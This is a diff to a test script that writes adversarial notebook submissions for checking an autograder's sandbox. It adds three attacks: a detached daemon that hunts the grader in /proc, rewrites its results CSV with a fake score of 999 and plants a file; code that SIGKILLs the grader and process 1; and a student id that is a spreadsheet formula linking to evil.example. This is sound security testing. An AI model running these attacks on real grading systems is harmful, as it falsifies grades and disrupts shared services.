@@ -1,6 +1,8 @@
 """Writes the submission files of ``tests/submissions/03/``: notebook 03's three exercises answered by honest
-students and by students who attack the grader, one attack per file (issue 16). The tests grade them
-(``tests/test_attacks.py``); rerun this script after changing an attack:
+students and by students who attack the grader, one attack per file (issue 16). They are notebooks named
+``*.submission``, never ``*.ipynb``: pytest's nbval would otherwise collect them and run the attacks outside
+any sandbox (one rewrites the package's files). ``tests/test_attacks.py`` copies them to a temporary folder
+as ``.ipynb`` and grades them there, sandboxed; rerun this script after changing an attack:
 
     .venv/bin/python tests/submissions/make_attacks.py
 """
@@ -174,6 +176,36 @@ print("files:", seen[:50])
 """
 
 
+DAEMON = r"""
+# Attack: a process in a session of its own that outlives the kernel: a few seconds later it looks for
+# the grader's command line in /proc, rewrites its --out CSV and adds a submission of its own.
+import subprocess, sys
+later = r'''
+import os, pathlib, time
+time.sleep(3)
+for pid in os.listdir("/proc"):
+    try:
+        words = open(f"/proc/{pid}/cmdline", "rb").read().split(bytes(1))
+    except OSError:
+        continue
+    if b"grade" in words and b"--out" in words:
+        pathlib.Path(words[words.index(b"--out") + 1].decode()).write_text("student,total\nme,999\n")
+        folder = pathlib.Path(words[words.index(b"grade") + 1].decode())
+        (folder / "zz_pwned.ipynb").write_text("{}")
+'''
+subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
+"""
+
+KILL_GRADER = r"""
+# Attack: kill the grader (the kernel's parent) and process 1, then answer honestly.
+import os, signal
+for pid in {os.getppid(), 1}:
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError as error:
+        print("could not kill", pid, type(error).__name__)
+"""
+
 KILL_AT_GRADING = r"""
 # Attack: kill the kernel as soon as the grader's first cell arrives (an input transformer that sees it),
 # hoping to stop the grading of the whole class.
@@ -278,16 +310,19 @@ def main() -> None:
         ),
         "c_flood_then_solved": notebook("An honest student who printed 30 MB first.", [FLOOD, *answers(SOLVED)]),
         "c_chatty_solved": notebook("An honest student whose answers print without a newline.", answers(CHATTY)),
+        "attack_daemon": notebook("A daemon that outlives the kernel.", [DAEMON, *answers(UNTOUCHED)]),
+        "attack_kill_grader": notebook("Killing the grader, then honest answers.", [KILL_GRADER, *answers(SOLVED)]),
+        '=HYPERLINK("evil.example")': notebook("A student id that is a spreadsheet formula.", answers(SOLVED)),
         "attack_kill_at_grading": notebook(
             "The kernel killed at the grading step.", [KILL_AT_GRADING, *answers(SOLVED)]
         ),
         "z_solved_after": notebook("An honest student graded after the attackers.", answers(SOLVED)),
         "z_untouched_after": notebook("An honest student graded after the attackers.", answers(UNTOUCHED)),
     }
-    for old in HERE.glob("*.ipynb"):
+    for old in HERE.glob("*.submission"):
         old.unlink()
-    for name, nb in files.items():
-        nbformat.write(nb, HERE / f"{name}.ipynb")
+    for name, nb in files.items():  # not *.ipynb: nbval (make test) would run the attacks unsandboxed
+        nbformat.write(nb, HERE / f"{name}.submission")
     print(f"wrote {len(files)} submissions to {HERE}")
 
 
